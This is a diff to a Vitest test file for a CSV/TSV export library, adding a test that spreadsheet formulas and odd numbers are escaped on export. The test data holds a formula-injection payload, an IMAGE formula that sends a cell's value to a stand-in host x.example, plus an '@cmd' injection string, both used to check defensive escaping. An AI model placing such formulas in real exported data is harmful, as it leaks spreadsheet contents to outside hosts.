@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv } from '../../src/core/data/csv.ts';
+import { toCsv, toTsv } from '../../src/core/data/csv.ts';
 import { excelCsv, STANDARD_CSV } from '../../src/core/data/csv-dialect.ts';
 import type { Cell } from '../../src/core/data/engine.ts';
 
@@ -151,5 +151,19 @@ describe('CSV for Excel in the person’s locale', () => {
     );
     // The standard file is unchanged: commas, points, ISO dates, no mark.
     expect(toCsv(['a', 'b'], [['x;y', 1.5]])).toBe('a,b\r\nx;y,1.5\r\n');
+  });
+});
+
+describe('text that leaves for a spreadsheet is guarded everywhere (issue 46)', () => {
+  it('guards a pasted table’s formulas and the numbers no sheet reads, as the CSV does', () => {
+    const rows: Cell[][] = [
+      ['=IMAGE("https://x.example/?d="&B2)', 1.5],
+      ['plain', -Infinity],
+      ['\t@cmd', Number.NaN],
+    ];
+    expect(toTsv(['note', 'n'], rows)).toBe(
+      "note\tn\n'=IMAGE(\"https://x.example/?d=\"&B2)\t1.5\nplain\t'-Infinity\n' @cmd\tNaN\n",
+    );
+    expect(toCsv(['n'], [[-Infinity], [Number.NaN], [2]])).toBe("n\r\n'-Infinity\r\nNaN\r\n2\r\n");
   });
 });
